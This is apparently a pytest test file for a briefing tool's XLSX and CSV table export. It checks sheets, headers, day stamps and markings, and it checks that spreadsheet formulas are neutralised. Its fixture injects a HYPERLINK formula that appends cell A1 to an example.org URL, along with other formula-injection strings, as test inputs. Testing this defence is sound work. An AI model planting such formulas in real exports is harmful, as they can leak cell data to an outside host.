"""Tables as XLSX and CSV: every one, with its day, and no cell that is worked out."""

import csv
import io
import zipfile
from dataclasses import replace

import openpyxl
import pytest

from briefing.export import export
from briefing.formats.spreadsheet import inert
from briefing.formats.tables import tables

FORMULA = '=HYPERLINK("https://example.org/?"&A1;"gate")'


@pytest.fixture(scope="module")
def scene(material):
    view = replace(material.default, layers=("crossings", "ports"), title=FORMULA)
    made = material.scene(view)
    layers = tuple(
        replace(
            part,
            features=tuple({**row, "name": FORMULA, "reason": "-1+1"} for row in part.features),
        )
        for part in made.layers
    )
    return replace(made, layers=layers)


def test_a_workbook_has_a_sheet_for_each_table_with_its_day(scene):
    book = openpyxl.load_workbook(io.BytesIO(export(scene, "xlsx", marking="For test use")))
    assert book.sheetnames == ["About", "Border crossings", "Ports"]
    for sheet, table in zip(book.worksheets[1:], tables(scene), strict=True):
        assert sheet["A1"].value == f"{table.title}  ·  For test use"
        assert [cell.value for cell in sheet[2]] == list(table.head)
        assert sheet.max_row == len(table.rows) + 2
        assert "For test use" in sheet.oddHeader.center.text
        assert sheet.freeze_panes == "B3"


def test_no_cell_of_a_workbook_is_a_formula_or_a_link(scene):
    content = export(scene, "xlsx")
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book for row in sheet for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    assert sum(str(cell.value).startswith("=") for cell in cells) > 10
    assert all(cell.quotePrefix for cell in cells)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        names = archive.namelist()
        assert not [
            n for n in names if b"<f>" in archive.read(n) or b"<hyperlink" in archive.read(n)
        ]


def test_csv_has_a_file_for_each_table_with_the_mark_of_its_letters(scene):
    with zipfile.ZipFile(io.BytesIO(export(scene, "csv", marking="For test use"))) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    day = f"{scene.view.day:%Y%m%d}"
    assert list(files) == [f"border-crossings_{day}.csv", f"ports_{day}.csv", "about.txt"]
    for name, table in zip(files, tables(scene), strict=False):
        assert files[name].startswith(b"\xef\xbb\xbf")
        rows = list(csv.reader(io.StringIO(files[name].decode("utf-8-sig"), newline="")))
        assert rows[0] == [*table.head, "Day", "Marking"]
        assert len(rows) == len(table.rows) + 1
        assert {row[-2] for row in rows[1:]} == {scene.day}
        assert {row[-1] for row in rows[1:]} == {"For test use"}
        assert not [cell for row in rows for cell in row if cell[:1] in tuple("=+@-\t\r")]


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("  =1+1", "'  =1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("-5", "-5"),
        ("+1,200.5 %", "+1,200.5 %"),
        ("Torkham", "Torkham"),
        ("", ""),
    ],
)
def test_what_a_spreadsheet_would_work_out_is_text(text, safe):
    assert inert(text) == safe
